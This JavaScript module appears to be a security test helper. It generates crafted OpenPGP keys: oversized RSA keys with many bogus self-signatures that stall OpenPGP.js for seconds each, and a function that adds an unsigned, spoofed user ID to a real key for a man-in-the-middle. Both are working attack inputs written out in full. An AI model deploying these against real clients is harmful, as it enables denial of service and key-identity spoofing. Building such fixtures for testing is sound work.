// Crafted OpenPGP public keys, built packet by packet (RFC 4880 §4-5): well-formed enough for OpenPGP.js to
// read them and try every self-signature, made only to cost the reader time. An RSA key whose modulus and
// public exponent are both huge is refused by Web Crypto, so OpenPGP.js verifies each signature with its
// pure-JS modular exponentiation: seconds per signature at 16,384 bits.
import { createHash, randomBytes } from 'node:crypto';

/** Big-endian bytes of `bits` bits: the top bit set (so the MPI has exactly that length) and odd. */
function bigOdd(bits) {
  const bytes = randomBytes(Math.ceil(bits / 8));
  const topBits = bits % 8 || 8;
  bytes[0] &= (1 << topBits) - 1;
  bytes[0] |= 1 << (topBits - 1);
  bytes[bytes.length - 1] |= 1;
  return bytes;
}

function mpi(bytes) {
  let start = 0;
  while (start < bytes.length - 1 && bytes[start] === 0) start += 1;
  const value = bytes.subarray(start);
  const bits = (value.length - 1) * 8 + (32 - Math.clz32(value[0]));
  return Buffer.concat([u16(bits), value]);
}

const u16 = (n) => Buffer.from([(n >> 8) & 0xff, n & 0xff]);
const u32 = (n) => Buffer.from([(n >>> 24) & 0xff, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff]);

/** A new-format packet (RFC 4880 §4.2.2). */
function packet(tag, body) {
  let length;
  if (body.length < 192) length = Buffer.from([body.length]);
  else if (body.length < 8384) length = Buffer.from([((body.length - 192) >> 8) + 192, (body.length - 192) & 0xff]);
  else length = Buffer.concat([Buffer.from([0xff]), u32(body.length)]);
  return Buffer.concat([Buffer.from([0xc0 | tag]), length, body]);
}

function subpacket(type, data) {
  return Buffer.concat([Buffer.from([data.length + 1, type]), data]);
}

function crc24(bytes) {
  let crc = 0xb704ce;
  for (const byte of bytes) {
    crc ^= byte << 16;
    for (let i = 0; i < 8; i += 1) {
      crc <<= 1;
      if (crc & 0x1000000) crc ^= 0x1864cfb;
    }
  }
  return crc & 0xffffff;
}

export function armorPublicKey(binary) {
  const lines = binary.toString('base64').match(/.{1,64}/g).join('\n');
  const crc = Buffer.from([(crc24(binary) >> 16) & 0xff, (crc24(binary) >> 8) & 0xff, crc24(binary) & 0xff]).toString('base64');
  return `-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n${lines}\n=${crc}\n-----END PGP PUBLIC KEY BLOCK-----\n`;
}

/**
 * A v4 RSA public key with a `modulusBits` modulus and an `exponentBits` public exponent, one user ID and
 * `certifications` positive self-certifications. Each certification has the right hash prefix and issuer, so
 * OpenPGP.js tries them all (newest first) with the full modular exponentiation before finding them invalid.
 * Returns {armored, fingerprint}.
 */
export function hostileRsaKey({ modulusBits = 16384, exponentBits = 16384, certifications = 20, name = 'Heavy Key' } = {}) {
  const created = Math.floor(Date.now() / 1000) - 3600;
  const n = bigOdd(modulusBits);
  const keyBody = Buffer.concat([Buffer.from([4]), u32(created), Buffer.from([1]), mpi(n), mpi(bigOdd(exponentBits))]);
  const keyHashed = Buffer.concat([Buffer.from([0x99]), u16(keyBody.length), keyBody]);
  const fingerprint = createHash('sha1').update(keyHashed).digest();
  const keyId = fingerprint.subarray(12);
  const uid = Buffer.from(name, 'utf8');
  const packets = [packet(6, keyBody), packet(13, uid)];
  for (let i = 0; i < certifications; i += 1) {
    const hashed = Buffer.concat([
      subpacket(2, u32(created + 1 + i)), // signature creation time
      subpacket(27, Buffer.from([0x03])), // key flags: certify, sign
      subpacket(33, Buffer.concat([Buffer.from([4]), fingerprint])), // issuer fingerprint
    ]);
    const sigPrefix = Buffer.concat([Buffer.from([4, 0x13, 1, 8]), u16(hashed.length), hashed]); // v4, positive cert, RSA, SHA-256
    const digest = createHash('sha256')
      .update(keyHashed)
      .update(Buffer.concat([Buffer.from([0xb4]), u32(uid.length), uid]))
      .update(sigPrefix)
      .update(Buffer.concat([Buffer.from([4, 0xff]), u32(sigPrefix.length)]))
      .digest();
    // Garbage below the modulus: OpenPGP.js refuses a signature value >= n before exponentiating.
    const signature = randomBytes(n.length);
    signature[0] = n[0] >> 1;
    const unhashed = subpacket(16, keyId); // issuer key ID
    packets.push(packet(2, Buffer.concat([sigPrefix, u16(unhashed.length), unhashed, digest.subarray(0, 2), mpi(signature)])));
  }
  return { armored: armorPublicKey(Buffer.concat(packets)), fingerprint: fingerprint.toString('hex').toUpperCase() };
}

/**
 * `armored` (a real public key) with a user ID packet `name` put right after its primary key, without any
 * signature: what anyone relaying the key can add without changing its fingerprint or breaking a signature.
 * OpenPGP.js still lists it first among the key's user IDs. Synchronous, so a man in the middle can use it
 * while rewriting a frame.
 */
export function withUnsignedUserId(armored, name) {
  const bytes = dearmor(armored);
  const primaryEnd = packetEnd(bytes, 0);
  const spliced = Buffer.concat([bytes.subarray(0, primaryEnd), packet(13, Buffer.from(name, 'utf8')), bytes.subarray(primaryEnd)]);
  return armorPublicKey(spliced);
}

/** The binary of an armored block: the base64 lines after the headers' blank line, without the checksum. */
function dearmor(armored) {
  const text = armored.replace(/\r/g, '');
  const body = text.slice(text.indexOf('\n\n') + 2);
  const lines = body.split('\n').filter((line) => line && !line.startsWith('=') && !line.startsWith('-----'));
  return Buffer.from(lines.join(''), 'base64');
}

/** Where the packet at `at` ends (a new-format header, as OpenPGP.js writes keys). */
function packetEnd(bytes, at) {
  if ((bytes[at] & 0xc0) !== 0xc0) throw new Error('not a new-format packet');
  const first = bytes[at + 1];
  if (first < 192) return at + 2 + first;
  if (first < 224) return at + 3 + ((first - 192) << 8) + bytes[at + 2] + 192;
  if (first === 255) return at + 6 + bytes.readUInt32BE(at + 2);
  throw new Error('partial length in a key');
}
